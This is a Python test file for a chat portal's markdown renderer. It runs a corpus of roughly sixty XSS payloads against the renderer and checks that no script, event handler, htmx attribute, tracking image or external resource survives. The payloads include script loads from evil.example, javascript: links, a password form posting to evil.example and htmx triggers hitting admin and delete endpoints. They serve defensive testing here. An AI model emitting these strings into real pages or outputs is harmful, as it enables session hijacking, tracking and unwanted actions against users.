"""The renderer of untrusted text: what markdown it supports, and an XSS corpus of which nothing
executable, no external resource and no htmx attribute may survive."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest

from portal import markdown
from portal.markdown import pygments_css, render

# Each entry is model output trying to get something past the renderer.
XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](DATA:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](VbScRiPt:msgbox(1))",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    "![beacon](https://tracker.example/pixel.gif?user=alice)",
    "![x](javascript:alert(1))",
    '<img src="https://tracker.example/p.gif">',
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=x>",
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<div hx-get="/admin/" hx-trigger="load" hx-target="body">x</div>',
    '<button hx-post="/chat/c/1/delete/" hx-trigger="load">x</button>',
    '<svg onload="alert(1)"><circle r=10 /></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<style>body{background:url(https://tracker.example/x)}</style>",
    '<p style="background:url(javascript:alert(1));width:expression(alert(1))">x</p>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<a href="https://ok.example" target=_blank onclick=alert(1)>x</a>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<script>alert(1)</script>-->",
    "<textarea><script>alert(1)</script></textarea>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    r"$\href{javascript:alert(1)}{click}$",
    r"$$\href{javascript:alert(1)}{click}$$",
    r"\(\href{data:text/html,<script>alert(1)</script>}{x}\)",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\color{red}{x}\style{background:url(https://tracker.example)}{y}$",
    r"$\mathrm{<svg onload=alert(1)>}$",
    r"$$\begin{array}{c}<iframe src=https://evil.example>\end{array}$$",
    '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><maction actiontype="statusline">x<mtext>javascript:alert(1)</mtext></maction></math>',
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href='/admin/auth/user/'>same site</a>",
    "[rel](/chat/c/1/delete/)",
    "[proto-relative](//evil.example/x)",
    "<video src=x onerror=alert(1)></video><audio src=x>",
    "<isindex action=javascript:alert(1)>",
    "<x onclick=alert(1)>custom</x>",
]

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "strong", "em",
    "code", "pre", "a", "table", "thead", "tbody", "tr", "th", "td", "div", "span", "del", "s",
    "math", "semantics", "mrow", "mi", "mn", "mo", "ms", "mtext", "mspace", "msup", "msub", "msubsup",
    "mfrac", "msqrt", "mroot", "mover", "munder", "munderover", "mtable", "mtr", "mtd", "mstyle",
    "menclose", "mpadded", "mphantom", "mfenced",
}  # fmt: skip


class Markup(HTMLParser):
    """The elements and attributes of an HTML fragment, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_inert(html: str) -> None:
    parser = Markup()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.elements:
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs:
            assert not name.startswith("on"), (name, html)
            assert not name.startswith(("hx-", "data-hx", "xlink")), (name, html)
            assert name not in ("style", "src", "srcset", "action", "formaction", "background", "poster"), (
                name,
                html,
            )
            if name == "href":
                # convert_charrefs decoded entities, as the browser does before resolving the URL.
                assert (value or "").startswith(("https://", "http://", "mailto:")), (value, html)
                assert tag == "a", (tag, html)
            if name == "class":
                assert tag in ("span", "div"), (tag, html)


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_nothing_executable_survives_rendering(payload: str) -> None:
    assert_inert(render(payload))


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_the_sanitiser_alone_stops_it(payload: str) -> None:
    """Raw HTML is already escaped by the parser; the allow-list must hold on its own too."""
    assert_inert(markdown._CLEANER.clean(payload))


def test_the_checker_catches_what_it_should() -> None:
    for bad in (
        '<img src="https://x">',
        '<a href="javascript:alert(1)">',
        '<p onclick="x">',
        '<div hx-get="/">',
    ):
        with pytest.raises(AssertionError):
            assert_inert(bad)


def test_links_get_safe_rel_and_images_become_links() -> None:
    html = render("[site](https://example.com) ![chart](https://example.com/c.png)")
    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert '<a href="https://example.com/c.png" rel="noopener noreferrer nofollow">Image: chart</a>' in html
    assert "<img" not in html


def test_markdown_features() -> None:
    html = render(
        "# Title\n\n**bold** _it_ ~~gone~~\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n> quote\n\n1. one\n2. two"
    )
    for fragment in ("<h1>Title</h1>", "<strong>bold</strong>", "<em>it</em>", "<s>gone</s>", "<table>",
                     '<td align="right">2</td>' if 'align="right"' in html else "<td>2</td>", "<blockquote>", "<ol>"):  # fmt: skip
        assert fragment in html, (fragment, html)


def test_code_is_highlighted_with_classes() -> None:
    html = render('```python\ndef f():\n    return "<x>"\n```')
    assert '<div class="codeblock"><code data-lang="python"></code><div class="highlight"><pre>' in html
    assert '<span class="k">def</span>' in html and "&lt;x&gt;" in html
    plain = render("```\n<b>not bold</b>\n```")
    assert "&lt;b&gt;not bold&lt;/b&gt;" in plain
    unknown = render('```nonexistent-language"onload=x\n1\n```')
    assert "onload" not in unknown and "<pre>" in unknown


def test_latex_becomes_mathml() -> None:
    html = render(r"Inline $x^2$, \(y_1\) and a block: $$\frac{a}{b}$$")
    assert html.count('<math xmlns="http://www.w3.org/1998/Math/MathML"') == 3
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in html and "<mfrac>" in html
    broken = render(r"$\frac{$")
    assert "<math" not in broken or "mfrac" in broken  # malformed TeX never raises


def test_raw_html_is_shown_as_text() -> None:
    assert render("<b>hi</b>") == "<p>&lt;b&gt;hi&lt;/b&gt;</p>\n"


def test_the_stylesheet_is_current() -> None:
    css = Path(__file__).resolve().parents[2] / "static" / "portal" / "pygments.css"
    assert css.read_text() == pygments_css(), "regenerate static/portal/pygments.css from pygments_css()"
